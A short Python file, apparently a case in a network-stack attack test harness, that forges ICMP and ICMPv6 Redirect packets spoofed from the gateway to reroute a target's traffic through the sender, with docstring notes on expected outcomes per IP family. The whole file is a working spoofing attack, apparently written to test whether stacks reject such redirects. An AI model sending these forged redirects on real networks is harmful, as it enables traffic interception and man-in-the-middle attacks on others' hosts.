# SPDX-License-Identifier: Apache-2.0
"""Telling the node that its way leads over us.

unheard: it is no message to anybody: what counts is that the node believes nothing
recorded: 4=~no_flow 6=~router
"""
from attack import attempt, icmp, icmp6, packed


def way(a):
    inner = a.udp_packet(9, source=a.gateway, to=a.target)
    a.frame(a.packet(58, icmp6(137, 0, bytes(4) + packed(a.target) + packed(a.own) + inner, a.own, a.gateway), to=a.gateway, hops=255)
            if a.family == 6 else a.packet(1, icmp(5, 1, packed(a.own) + inner), to=a.gateway))


attempt(way)
